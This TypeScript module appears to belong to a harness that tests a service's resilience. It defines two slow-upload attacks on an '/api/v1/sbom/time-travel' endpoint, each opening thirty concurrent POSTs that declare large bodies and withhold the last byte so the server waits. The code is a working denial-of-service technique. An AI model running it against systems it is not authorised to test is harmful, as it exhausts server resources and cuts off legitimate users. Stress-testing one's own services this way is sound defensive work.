import { Readable } from 'node:stream';
import { type Attack, type AttackDeps, together } from './attack.ts';

const AT_ONCE = 30;
const CHUNK = Buffer.alloc(1 << 16, 0x20);

/** Thirty bodies at once of twenty megabytes, each without its last byte: the sender falls silent and waits. */
export const silentUploads: Attack = (url, deps) => together(AT_ONCE, () => sendSilently(url, deps, 20 << 20));

/** The same of as many bytes as are taken without a key. */
export const silentSmallUploads: Attack = (url, deps) => together(AT_ONCE, () => sendSilently(url, deps, 2 << 20));

function sendSilently(url: string, { send }: AttackDeps, length: number): Promise<number> {
  return send(`${url}/api/v1/sbom/time-travel`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'content-length': String(length) },
    body: allButTheLastByte(length),
  });
}

function allButTheLastByte(length: number): Readable {
  let left = length - 1;
  return new Readable({
    read() {
      if (left === 0) return;
      const chunk = CHUNK.subarray(0, left);
      left -= chunk.length;
      this.push(chunk);
    },
  });
}
